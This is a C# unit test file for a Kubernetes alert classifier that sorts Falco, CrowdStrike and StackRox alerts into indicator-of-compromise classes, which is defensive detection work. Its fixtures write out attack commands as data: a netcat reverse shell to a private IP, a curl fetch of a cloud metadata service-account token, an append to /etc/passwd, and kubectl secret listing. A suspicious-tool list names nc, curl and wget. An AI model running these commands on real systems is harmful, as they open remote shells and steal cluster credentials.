using K8Posture.Features.Alerts;

namespace K8Posture.UnitTests.Features.Alerts;

/// <summary>
/// One test per IOC class with a real fixture, or with an alert documented by its sensor: the Falco ones below follow the
/// rule names and output formats of falcosecurity/rules (rules/falco_rules.yaml, falco-sandbox_rules.yaml,
/// falco-incubating_rules.yaml) with the output_fields Falco emits for them.
/// </summary>
public sealed class IocClassifierFacts
{
    private static IocClass ClassOf(string payload) =>
        IocClassifier.Classify(Assert.Single(AlertFixtures.ParseText(payload).Alerts).ToIocInput()).Class;

    [Fact]
    public void Write_below_binary_dir_real_falcosidekick_sample()
    {
        var alert = Assert.Single(AlertFixtures.Parse("falco/falcosidekick-write-below-binary-dir.json").Alerts);

        var verdict = IocClassifier.Classify(alert.ToIocInput());

        Assert.Equal(IocClass.WriteBelowSystemDirectory, verdict.Class);
    }

    [Fact]
    public void Write_below_etc_by_evidence_when_the_rule_name_says_nothing()
    {
        var verdict = IocClassifier.Classify(new IocInput("custom file rule", Process: "tee", CommandLine: "tee -a /etc/passwd", FilePath: "/etc/passwd"));

        Assert.Equal(IocClass.WriteBelowSystemDirectory, verdict.Class);
        Assert.Equal("write to /etc/passwd", verdict.Evidence);
    }

    [Fact]
    public void Reading_below_etc_is_not_a_write()
    {
        var verdict = IocClassifier.Classify(new IocInput("custom file rule", Output: "file opened for reading", Process: "cat", CommandLine: "cat /etc/hosts", FilePath: "/etc/hosts"));

        Assert.Equal(IocClass.Other, verdict.Class);
    }

    [Fact]
    public void Sudo_in_the_process_tree_real_falco_sample()
    {
        var alert = Assert.Single(AlertFixtures.Parse("falco/falco-read-sensitive-file-untrusted.json").Alerts);

        var verdict = IocClassifier.Classify(alert.ToIocInput());

        Assert.Equal(IocClass.SuspiciousTool, verdict.Class);
        Assert.Equal("parent process sudo", verdict.Evidence);
    }

    [Theory]
    [InlineData("nc")]
    [InlineData("ncat")]
    [InlineData("netcat")]
    [InlineData("ssh")]
    [InlineData("sudo")]
    [InlineData("curl")]
    [InlineData("wget")]
    public void Network_and_privilege_tools_by_process_name(string tool)
    {
        Assert.Equal(IocClass.SuspiciousTool, IocClassifier.Classify(new IocInput("Unexpected process", Process: tool, CommandLine: tool + " -h")).Class);
    }

    [Fact]
    public void Netcat_remote_code_execution_documented_falco_alert()
    {
        Assert.Equal(IocClass.SuspiciousTool, ClassOf("""
            {"output":"10:22:31.451213371: Warning Netcat runs inside container that allows remote code execution (evt_type=execve user=root user_uid=0 process=nc proc_exepath=/usr/bin/nc parent=bash command=nc -e /bin/sh 10.0.0.9 4444 container_id=5b8a1c2d3e4f container_name=web)",
             "priority":"Warning","rule":"Netcat Remote Code Execution in Container","source":"syscall","time":"2024-03-01T10:22:31.451213371Z","tags":["maturity_stable","container","network","process","mitre_execution","T1059"],
             "output_fields":{"container.id":"5b8a1c2d3e4f","container.name":"web","evt.type":"execve","proc.cmdline":"nc -e /bin/sh 10.0.0.9 4444","proc.exepath":"/usr/bin/nc","proc.name":"nc","proc.pname":"bash","user.name":"root","user.uid":0}}
            """));
    }

    [Fact]
    public void Cloud_metadata_documented_falco_alert()
    {
        Assert.Equal(IocClass.CloudMetadataAccess, ClassOf("""
            {"output":"11:02:03.000000000: Notice Outbound connection to cloud metadata service (connection=10.244.1.17:41234->169.254.169.254:80 lport=41234 rport=80 fd_type=ipv4 fd_proto=tcp evt_type=connect user=app process=python3 command=python3 app.py container_id=9c1d2e3f4a5b)",
             "priority":"Notice","rule":"Contact cloud metadata from container","source":"syscall","time":"2024-03-01T11:02:03Z",
             "output_fields":{"container.id":"9c1d2e3f4a5b","fd.name":"10.244.1.17:41234->169.254.169.254:80","proc.cmdline":"python3 app.py","proc.name":"python3","user.name":"app"}}
            """));
    }

    [Fact]
    public void Cloud_metadata_by_evidence_wins_over_the_curl_that_reached_it()
    {
        var verdict = IocClassifier.Classify(new IocInput("Process launched", Process: "curl", CommandLine: "curl -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"));

        Assert.Equal(IocClass.CloudMetadataAccess, verdict.Class);
        Assert.Contains("metadata.google.internal", verdict.Evidence);
    }

    [Fact]
    public void Cloud_metadata_real_crowdstrike_shaped_sample()
    {
        var alert = AlertFixtures.Parse("crowdstrike/falcon-event-stream-detections.ndjson").Alerts[0];

        Assert.Equal(IocClass.CloudMetadataAccess, IocClassifier.Classify(alert.ToIocInput()).Class);
    }

    [Fact]
    public void Service_account_token_read_by_evidence()
    {
        var verdict = IocClassifier.Classify(new IocInput("Read sensitive file untrusted", Process: "cat", CommandLine: "cat token", FilePath: "/var/run/secrets/kubernetes.io/serviceaccount/token"));

        Assert.Equal(IocClass.ServiceAccountTokenAccess, verdict.Class);
    }

    [Fact]
    public void Kube_api_contacted_documented_falco_alert()
    {
        Assert.Equal(IocClass.ServiceAccountTokenAccess, ClassOf("""
            {"output":"12:00:00.000000000: Notice Unexpected connection to K8s API Server from container (connection=10.244.1.17:50432->10.96.0.1:443 lport=50432 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root process=kubectl command=kubectl get secrets -A k8s.ns=payments k8s.pod=api-0 container=1a2b3c4d5e6f)",
             "priority":"Notice","rule":"Contact K8S API Server From Container","source":"syscall","time":"2024-03-01T12:00:00Z",
             "output_fields":{"container.id":"1a2b3c4d5e6f","fd.name":"10.244.1.17:50432->10.96.0.1:443","k8s.ns.name":"payments","k8s.pod.name":"api-0","proc.cmdline":"kubectl get secrets -A","proc.name":"kubectl","user.name":"root"}}
            """));
    }

    [Fact]
    public void Kube_api_by_evidence_kubectl()
    {
        Assert.Equal(IocClass.ServiceAccountTokenAccess, IocClassifier.Classify(new IocInput("Drift detected", Process: "kubectl", CommandLine: "kubectl auth can-i --list")).Class);
    }

    [Fact]
    public void Privileged_container_real_stackrox_alert()
    {
        var alert = AlertFixtures.Parse("stackrox/stackrox-alerts-list.json").Alerts.Single(a => a.Rule == "Privileged Container");

        Assert.Equal(IocClass.PrivilegedContainerSpawn, IocClassifier.Classify(alert.ToIocInput()).Class);
    }

    [Fact]
    public void Container_runtime_socket_by_evidence()
    {
        var verdict = IocClassifier.Classify(new IocInput("Unexpected connection", Process: "docker", CommandLine: "docker -H unix:///host/run/containerd/containerd.sock ps",
            Fields: [new("fd.name", "/host/var/run/docker.sock")]));

        Assert.Equal(IocClass.PrivilegedContainerSpawn, verdict.Class);
    }

    [Fact]
    public void Privileged_container_running_a_container_runtime_cli()
    {
        var verdict = IocClassifier.Classify(new IocInput("Process started", Process: "runc", Fields: [new("container.privileged", "true")]));

        Assert.Equal(IocClass.PrivilegedContainerSpawn, verdict.Class);
    }

    [Fact]
    public void Sensitive_mount_documented_falco_alert()
    {
        Assert.Equal(IocClass.HostMount, ClassOf("""
            {"output":"13:00:00.000000000: Notice Container with sensitive mount started (user=root command=container:3ad8b1c6e3f1 k8s.ns=default k8s.pod=debug container=3ad8b1c6e3f1 image=alpine:3.19 mounts=/:/host::true:rprivate)",
             "priority":"Notice","rule":"Launch Sensitive Mount Container","source":"syscall","time":"2024-03-01T13:00:00Z",
             "output_fields":{"container.id":"3ad8b1c6e3f1","container.image.repository":"alpine","container.image.tag":"3.19","container.mounts":"/:/host::true:rprivate","k8s.ns.name":"default","k8s.pod.name":"debug","user.name":"root"}}
            """));
    }

    [Fact]
    public void Host_root_mount_by_evidence()
    {
        var verdict = IocClassifier.Classify(new IocInput("Container started", Fields: [new("container.mounts", "/:/host::true:rprivate")]));

        Assert.Equal(IocClass.HostMount, verdict.Class);
        Assert.Equal("container.mounts mounts host path /", verdict.Evidence);
    }

    [Fact]
    public void Unknown_rules_stay_other()
    {
        Assert.Equal(IocClass.Other, IocClassifier.Classify(Assert.Single(AlertFixtures.Parse("falco/falco-terminal-shell-in-container-k8s.json").Alerts).ToIocInput()).Class);
        Assert.All(AlertFixtures.Parse("falco/falco-regression-single_rule_with_cat_write.jsonl").Alerts,
            a => Assert.Equal(IocClass.Other, IocClassifier.Classify(a.ToIocInput()).Class));
        Assert.Equal(IocClass.Other, IocClassifier.Classify(Assert.Single(AlertFixtures.Parse("stackrox/stackrox-alert-misuse-of-iptables-runtime.json").Alerts).ToIocInput()).Class);
    }
}
